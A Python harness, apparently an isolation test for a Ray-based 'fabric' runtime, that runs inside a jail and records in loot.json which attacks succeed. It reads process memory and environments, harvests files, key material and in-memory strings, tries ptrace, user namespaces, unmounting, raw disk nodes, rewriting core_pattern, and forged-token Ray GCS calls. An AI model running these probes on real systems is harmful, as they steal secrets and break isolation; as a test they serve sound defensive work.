"""Runs inside the jail in the driver's place: hires a real courier, then turns on everybody. No test by itself.

Takes its target from ``/ray/target.json`` and leaves in ``/ray/loot.json`` what each attack got, run three times: in
the driver, in the courier by ``__ray_call__``, and in a Ray task. An attack that is refused notes the refusal. Ray
ships these functions by value, because they are of ``__main__``.
"""

import asyncio
import contextlib
import ctypes
import gc
import json
import os
import socket
import subprocess
import sys
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

SESSION = Path("/ray")
PTRACE_SEIZE = 0x4206
"""Does not stop what it gets hold of: should a wall be missing, the test goes on and says so."""
Target = dict[str, Any]
Notes = dict[str, Any]


def attack(_: object, target: Target) -> Notes:
    """Tries everything; returns notes by name of the attack."""
    names = sorted(name for name in sys.modules if name.startswith(("fabric", "coincurve", "cryptography")))
    notes = {
        "modules": names,
        "objects": objects(),
        "environments": environments(),
        "files": files(target["search"]),
        "keys": {path: attempt(Path(path).read_bytes) for path in target["files"]},
    }
    if target.get("reads_only"):
        return notes  # outside the walls, what follows would do harm
    return notes | processes(target["pids"]) | ways_out(target)


def attempt(call: Callable[[], object]) -> str:
    """Returns what a call got, or why not; a negative number is a kernel call's refusal."""
    try:
        got = call()
    except Exception as error:  # noqa: BLE001 - the refusal is the result
        return f"{type(error).__name__}: {error}"
    if isinstance(got, int) and got < 0:
        return os.strerror(ctypes.get_errno())
    return f"got {got!r}"


def objects() -> str:
    """Everything that the collector knows of, and what it refers to."""
    tracked = gc.get_objects()
    seen: set[bytes] = set()
    for item in tracked + [part for whole in tracked for part in gc.get_referents(whole)]:
        if isinstance(item, bytes | bytearray) and len(item) <= 4096:
            seen.add(bytes(item))
        elif isinstance(item, str) and len(item) <= 4096:
            seen.add(item.encode(errors="replace"))
    return b"\n".join(seen).hex()


def environments() -> str:
    """The environments and command lines of all processes that can be seen."""
    found = [repr(dict(os.environ)).encode()]
    for entry in Path("/proc").iterdir():
        if entry.name.isdecimal():
            for name in ("environ", "cmdline"):
                with contextlib.suppress(OSError):
                    found.append((entry / name).read_bytes())
    return b"\n".join(found).hex()


def files(roots: Iterable[str]) -> str:
    """Every small file below some folders."""
    found = []
    for path in (Path(at) / name for root in roots for at, _, names in os.walk(root) for name in names):
        with contextlib.suppress(OSError):
            if path.is_file() and path.stat().st_size < 1 << 20:
                found.append(str(path).encode() + b"\n" + path.read_bytes())
    return b"\n".join(found).hex()


def memory(pid: int) -> bytes:
    """The first bytes that are mapped in a process."""
    start = int(Path(f"/proc/{pid}/maps").read_text().split("-")[0], 16)
    with Path(f"/proc/{pid}/mem").open("rb") as file:
        file.seek(start)
        return file.read(4096)


def processes(pids: list[int]) -> Notes:
    """Tries to read, trace and signal processes."""
    libc = ctypes.CDLL(None, use_errno=True)
    attacks: dict[str, Callable[[int], object]] = {
        "memory": memory,
        "descriptors": lambda pid: [*Path(f"/proc/{pid}/fd").iterdir()],
        "ptrace": lambda pid: libc.ptrace(PTRACE_SEIZE, pid, None, None),
        "signals": lambda pid: os.kill(pid, 0),
    }
    inside = [entry.name for entry in Path("/proc").iterdir() if entry.name.isdecimal()]
    notes = {name: {str(pid): attempt(lambda: call(pid)) for pid in pids} for name, call in attacks.items()}  # noqa: B023
    return notes | {"inside": inside}


def ways_out(target: Target) -> Notes:
    """Tries to get capabilities, take covers away, reach disks, change code, and speak to others."""
    libc = ctypes.CDLL(None, use_errno=True)
    # In a process of its own, because one with threads gets no user namespace anywhere.
    become_root = subprocess.run(
        ["/usr/bin/unshare", "--user", "--map-root-user", "true"], capture_output=True, text=True, check=False
    )
    attacks: dict[str, Callable[[], object]] = {
        "uncover": lambda: libc.umount2(target["hidden"].encode(), 2),
        "disk": lambda: libc.mknod(b"/ray/disk", 0o60600, os.makedev(*target["disk"])),
        "core": lambda: rewrite("/proc/sys/kernel/core_pattern"),
        "code": lambda: rewrite(target["code"]),
        "gateway": lambda: socket.create_connection(("127.0.0.1", target["port"]), 5),
        "abstract": lambda: socket.socket(socket.AF_UNIX).connect("\0" + target["abstract"]),
    }
    return {name: attempt(call) for name, call in attacks.items()} | {"namespace": become_root.stderr}


def rewrite(name: str) -> None:
    """Writes a file as it was: whoever may do that may write anything."""
    path = Path(name)
    path.write_bytes(path.read_bytes())


def ask(path: str, frames: list[str]) -> list[str]:
    """Speaks to the enclave as a courier does, with frames of our choice."""
    answers = []
    for frame in map(bytes.fromhex, frames):
        with socket.socket(socket.AF_UNIX) as handle:
            handle.settimeout(20)
            handle.connect(path)
            handle.sendall(len(frame).to_bytes(4, "big") + frame)
            file = handle.makefile("rb")
            answers.append(file.read(int.from_bytes(file.read(4), "big")).hex())
    return answers


def strangers(address: str) -> dict[str, str]:
    """Asks Ray's GCS for its keys, without a token, with a wrong one, and with the right one."""
    import grpc  # noqa: PLC0415 - Ray must read its environment before anything loads it

    def code(*metadata: tuple[str, str]) -> str:
        with grpc.insecure_channel(address) as channel:
            call: Any = channel.unary_unary("/ray.rpc.InternalKVGcsService/InternalKVKeys")
            try:
                call(b"", metadata=metadata, timeout=20)
            except grpc.RpcError as error:
                return str(error.code())
            return "ok"

    token = os.environ["RAY_AUTH_TOKEN"]
    return {
        "none": code(),
        "wrong": code(("authorization", f"Bearer {'0' * 64}")),
        "right": code(("authorization", f"Bearer {token}")),
    }


async def main() -> None:
    """Starts Ray and the courier as the driver does, then robs the house."""
    from fabric.runtime.couriers import Couriers  # noqa: PLC0415 - not there when run without walls
    from fabric.runtime.head import HeadConfig, start_head  # noqa: PLC0415

    target = json.loads((SESSION / "target.json").read_text())
    start_head(HeadConfig(2, 1 << 30, 128 << 20, str(SESSION)))
    import ray  # noqa: PLC0415

    couriers = Couriers()
    number = await couriers.hire("victim", target["socket"], {"num_cpus": 0.1})
    await couriers.exchange(number, bytes.fromhex(target["frames"][0]), 20)
    actor = couriers._places[number].actor
    remote = ray.remote(num_cpus=0)
    loot = {
        "driver": attack(None, target),
        "courier": await actor.__ray_call__.remote(attack, target),
        "task": await remote(attack).remote(None, target),
        "asked": await remote(ask).remote(target["socket"], target["frames"]),
        "strangers": strangers(ray.get_runtime_context().gcs_address),
    }
    (SESSION / "loot.json").write_text(json.dumps(loot))


if __name__ == "__main__" and len(sys.argv) > 1:
    sys.stdout.write(json.dumps(attack(None, json.loads(sys.argv[1]))))
elif __name__ == "__main__":
    asyncio.run(main())
    os._exit(0)
